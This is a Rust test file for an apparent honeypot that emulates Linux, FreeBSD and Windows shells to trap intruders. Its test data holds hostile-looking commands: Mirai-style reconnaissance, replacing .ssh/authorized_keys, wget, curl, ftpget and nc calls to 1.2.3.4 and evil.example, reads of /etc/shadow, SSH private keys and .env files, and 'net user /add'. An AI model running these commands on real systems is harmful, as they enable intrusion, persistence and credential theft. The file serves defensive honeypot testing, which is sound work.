use crate::logic::event::Kind;
use crate::logic::shell::tests::{Bench, check};

#[test]
fn text_is_cut_sorted_and_replaced() {
    check(&[
        ("printf 'b 2\\na 10\\n' | sort", "a 10\nb 2\n"),
        ("printf '10\\n9\\n' | sort -n | tail -1", "10\n"),
        ("printf 'a\\na\\nb\\n' | uniq -c", "      2 a\n      1 b\n"),
        ("echo a,b,c | cut -d, -f1,3; echo abcdef | cut -c2-4", "a,c\nbcd\n"),
        ("echo hello | tr a-y b-z; echo aabb | tr -s b; echo abc | tr -d b", "ifmmp\naab\nac\n"),
        ("printf 'a b\\nc\\n' | wc; printf 'a b\\nc\\n' | wc -l", "      2       3       6\n2\n"),
        ("echo 'foo bar' | sed 's/\\(foo\\) \\(bar\\)/\\2 \\1/'", "bar foo\n"),
        ("printf '1\\n2\\n3\\n' | sed -n '2,3p'; printf '1\\n2\\n' | sed '$d'", "2\n3\n1\n"),
        ("echo /a/b | sed 's#/a#/c#g;s/b$/d/'", "/c/d\n"),
        ("printf 'a:b\\nc:d\\n' | awk -F: '{print $2, NR}'", "b 1\nd 2\n"),
        ("awk -F: '$3==0 {print $1}' /etc/passwd", "root\n"),
        ("printf 'foo\\nbar\\n' | grep -n b; echo a | grep -c x", "2:bar\n0\n"),
        ("printf 'a1\\nb\\n' | grep -E '[a-z][0-9]|x'; echo A | grep -i a", "a1\nA\n"),
        ("printf 'x y\\nz\\n' | xargs echo -; echo a | xargs -I{} echo '<{}>'", "- x y z\n<a>\n"),
        ("seq 3 -1 1 | paste -sd,; basename /a/b.c .c; dirname /a/b", "3,2,1\nb\n/a\n"),
    ]);
}

#[test]
fn bytes_are_made_and_looked_at() {
    check(&[
        ("echo -ne '\\x7f\\x45\\x4c\\x46' | od -An -tx1", " 7f 45 4c 46\n"),
        ("dd bs=4 count=1 if=/bin/echo 2>/dev/null | busybox xxd -p", "7f454c46\n"),
        ("echo hello | base64; echo aGVsbG8K | base64 -d", "aGVsbG8K\nhello\n"),
        ("echo hello | md5sum", "b1946ac92492d2347c6235b4d2611184  -\n"),
        (
            "echo hello | sha256sum",
            "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03  -\n",
        ),
        ("echo hello | cksum", "3015617425 6\n"),
        (
            "printf 'a\\0b' | busybox strings -n 1; echo '#!/bin/sh' > /tmp/x; file /tmp/x",
            "a\nb\n/tmp/x: POSIX shell script, ASCII text executable\n",
        ),
        ("file -b /bin/ls | cut -c1-20", "ELF 64-bit LSB pie e\n"),
    ]);
}

#[test]
fn mirai_and_its_kin_find_what_they_look_for() {
    check(&[
        ("/bin/busybox ECCHI", "ECCHI: applet not found\n"),
        (
            "busybox cat /etc/hostname; busybox wget; echo $?",
            "files-01\nwget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for \
          more options.\n1\n",
        ),
        ("cat /proc/mounts | grep -c tmpfs; cd /dev/shm || cd /tmp; pwd", "5\n/dev/shm\n"),
        ("echo -ne '\\x23!/bin/sh\\necho run $1\\n' > .x; chmod 777 .x; ./.x a", "run a\n"),
        (
            "./none; ls /none; >/tmp/.e && rm /tmp/.e; nproc",
            "bash: line 1: ./none: No such file or directory\nls: cannot access '/none': No such file \
          or directory\n4\n",
        ),
        (
            "uname -s -v -n -r -m",
            "Linux files-01 6.1.0-37-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.140-1 (2025-05-22) \
          x86_64\n",
        ),
        (
            "chattr -ia .ssh; rm -rf .ssh; mkdir .ssh; echo k>>.ssh/authorized_keys; chmod -R go= .ssh; \
          ls -ld .ssh | cut -c1-10",
            "drwx------\n",
        ),
        (
            "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'",
            "Intel(R) Xeon(R) E-2224G\n",
        ),
        (
            "free -m | grep Mem | awk '{print $2}'; crontab -l; whoami",
            "15863\nno crontab for root\nroot\n",
        ),
        (
            "nvidia-smi; docker ps; gcc -v",
            "bash: line 1: nvidia-smi: command not found\nbash: line 1: docker: command not \
          found\nbash: line 1: gcc: command not found\n",
        ),
    ]);
}

#[test]
fn nothing_is_ever_fetched() {
    let mut bench = Bench::new("debian-12");
    let lines = [
        ("wget -q http://1.2.3.4/x; echo $?", "4\n"),
        ("curl http://evil.example/x", "curl: (6) Could not resolve host: evil.example\n"),
        ("ftpget -u a -p b 1.2.3.4 x x", "bash: line 1: ftpget: command not found\n"),
        (
            "busybox ftpget 1.2.3.4 x y",
            "ftpget: can't connect to remote host (1.2.3.4): No route to host\n",
        ),
        ("ssh root@10.0.0.1", "ssh: connect to host 10.0.0.1 port 22: No route to host\n"),
        ("nc 1.2.3.4 80 -v", "nc: connect to 1.2.3.4 port 80 (tcp) failed: No route to host\n"),
    ];
    for (line, shown) in lines {
        assert_eq!(bench.run(line).0, shown, "{line}");
    }
}

#[test]
fn a_user_may_less_than_root() {
    let mut bench = Bench::new("debian-12");
    for (line, shown) in [
        (
            "id",
            "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),4(adm),24(cdrom),27(sudo),\
                30(dip),46(plugdev),100(users)\n",
        ),
        ("cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"),
        ("ls /root", "ls: cannot open directory '/root': Permission denied\n"),
        ("cd /root; pwd", "bash: line 1: cd: /root: Permission denied\n/home/deploy\n"),
        ("ifconfig", "bash: line 1: ifconfig: command not found\n"),
        ("rm -rf /etc/passwd", "rm: cannot remove '/etc/passwd': Permission denied\n"),
        ("echo x > /etc/x", "bash: line 1: /etc/x: Permission denied\n"),
        ("useradd x", "bash: line 1: useradd: command not found\n"),
        ("reboot; echo $?", "bash: line 1: reboot: command not found\n127\n"),
    ] {
        assert_eq!(bench.run_as("deploy", line).0, shown, "{line}");
    }
}

#[test]
fn an_account_that_logs_in_has_always_been_there() {
    let mut bench = Bench::new("debian-12");
    let (text, _, _) = bench.run_as("oracle", "id; pwd; tail -1 /etc/passwd");
    let home = "oracle:x:1001:1001::/home/oracle:/bin/bash\n";
    assert_eq!(
        text,
        format!("uid=1001(oracle) gid=1001(oracle) groups=1001(oracle)\n/home/oracle\n{home}")
    );
    // Odd names and too many of them are let in all the same, and change nothing.
    let before = bench.state.files.bytes();
    assert_eq!(bench.run_as("../x:0:0", "pwd").0, "/\n");
    assert_eq!(bench.state.files.bytes(), before);
    for n in 0..100 {
        bench.run_as(&format!("user{n}"), "true");
    }
    assert_eq!(bench.run_as("last", "id -u; cat /etc/passwd | wc -l").0, "1001\n44\n");
}

#[test]
fn files_that_are_left_are_reported_with_their_bytes() {
    let mut bench = Bench::new("debian-12");
    let (_, _, reports) =
        bench.run_as("root", "echo aGkK | base64 -d > /tmp/a; echo x | tee /tmp/b >/dev/null");
    let uploads: Vec<_> = reports.iter().filter(|report| report.kind == Kind::FileUpload).collect();
    let paths: Vec<_> = uploads.iter().filter_map(|report| report.data.text("path")).collect();
    assert_eq!(paths, ["/tmp/a", "/tmp/b"]);
    assert_eq!(uploads.first().unwrap().raw.as_ref().unwrap().b64, "aGkK");
}

#[test]
fn other_systems_speak_their_own_words() {
    for (persona, line, shown) in [
        (
            "freebsd-14",
            "uname -a; nothing; id",
            "FreeBSD files-01 14.1-RELEASE-p6 FreeBSD 14.1-RELEASE-p6 GENERIC amd64\nsh: nothing: not \
          found\nuid=0(root) gid=0(wheel) groups=0(wheel),5(operator)\n",
        ),
        ("ubuntu-24.04", "lsb_release -ds 2>/dev/null; ls -d /snap", "Ubuntu 24.04.2 LTS\n/snap\n"),
        (
            "windows-10",
            "whoami & ver",
            "files01\\root\r\n\r\nMicrosoft Windows [Version 10.0.19045.5854]\r\n",
        ),
        (
            "windows-10",
            "foo",
            "'foo' is not recognized as an internal or external command,\r\noperable program or batch \
          file.\r\n",
        ),
        (
            "windows-server-2022",
            "cd \\Windows & cd & type C:\\Windows\\win.ini | find \"MAPI\"",
            "C:\\Windows\r\nMAPI=1\r\n",
        ),
        ("windows-server-2022", "echo a>x.txt & echo b>>x.txt & type X.TXT", "a\r\nb\r\n"),
        (
            "windows-server-2022",
            "if exist x echo %USERNAME%&net user /add a b",
            "'if' is not recognized as an internal or external command,\r\noperable program or batch \
          file.\r\nThe command completed successfully.\r\n\r\n",
        ),
        ("printer", "id", ""),
    ] {
        assert_eq!(Bench::new(persona).run(line).0, shown, "{persona} {line}");
    }
}

#[test]
fn two_deckies_share_no_secret() {
    let looks = "cat /root/.ssh/id_ed25519 /etc/shadow /etc/machine-id /home/*/app/.env; blkid; \
                 dmidecode -s system-serial-number; hostid";
    let ours = Bench::new("debian-12").run(looks).0;
    let mut other = Bench::new("debian-12");
    other.decky.secret = crate::logic::decky::Secret([8; 32]);
    other.decky.ip = [192, 168, 7, 21].into();
    let theirs = other.run(looks).0;
    let same = ours.lines().filter(|line| line.len() > 24 && theirs.contains(*line));
    let same: Vec<_> = same
        .filter(|line| {
            !line.contains("KEY-----")
                && !line.contains(":*")
                && !line.starts_with("b3BlbnNzaC1rZXkt")
                && *line != "AWS_BUCKET=portal-backups"
        })
        .collect();
    assert_eq!(same, Vec::<&str>::new());
}
